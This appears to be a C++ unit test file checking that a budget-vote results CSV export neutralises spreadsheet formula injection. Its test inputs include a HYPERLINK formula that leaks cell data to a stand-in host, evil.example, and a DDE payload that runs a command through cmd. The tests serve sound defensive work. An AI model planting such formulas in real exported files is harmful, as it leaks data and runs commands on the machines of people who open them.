// results.csv as a spreadsheet opens it: cells stay in their columns and no title becomes a formula
// (OWASP "CSV injection", issue 14 item 9).
#include <boost/json.hpp>
#include <catch2/catch.hpp>
#include <string>

#include "server/api/tally_service.hpp"

using budget::server::api::csv_field;
using budget::server::api::results_csv;
namespace json = boost::json;

TEST_CASE("a text cell starting like a formula is quoted behind a leading apostrophe",
          "[unit][results][csv]") {
    CHECK(csv_field("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\"");
    CHECK(csv_field("+cmd|' /C calc'!A0") == "\"'+cmd|' /C calc'!A0\"");
    CHECK(csv_field("-2+3") == "\"'-2+3\"");
    CHECK(csv_field("@SUM(A1:A9)") == "\"'@SUM(A1:A9)\"");
    CHECK(csv_field("\t=1+1") == "\"'\t=1+1\"");
    CHECK(csv_field("\r=1+1") == "\"'\r=1+1\"");
}

TEST_CASE("an ordinary text cell is left as it is, quoted only when it holds a separator",
          "[unit][results][csv]") {
    CHECK(csv_field("Jardin partagé") == "Jardin partagé");
    CHECK(csv_field("Repair café = lien social") == "Repair café = lien social");
    CHECK(csv_field("Vélos ; ateliers") == "\"Vélos ; ateliers\"");
    CHECK(csv_field("Dit \"le local\"") == "\"Dit \"\"le local\"\"\"");
    CHECK(csv_field("").empty());
}

TEST_CASE("results.csv neutralises hostile titles and keeps numbers as numbers",
          "[unit][results][csv]") {
    json::object row{{"id", "a"},
                     {"title", "=HYPERLINK(\"http://evil.example/\")"},
                     {"territory", "arrageois"},
                     {"category", "+cmd|' /C calc'!A0"},
                     {"amount_eur", 6000},
                     {"votes", 0},
                     {"funded", false},
                     {"rank", 2},
                     {"reason", "-budget épuisé"}};
    const json::object doc{{"initiatives", json::array{row}}};
    const auto csv = results_csv(doc);
    CHECK(csv.find("\r\na;\"'=HYPERLINK(\"\"http://evil.example/\"\")\";arrageois;"
                   "\"'+cmd|' /C calc'!A0\";6000;0;non;2;\"'-budget épuisé\"\r\n") !=
          std::string::npos);
}
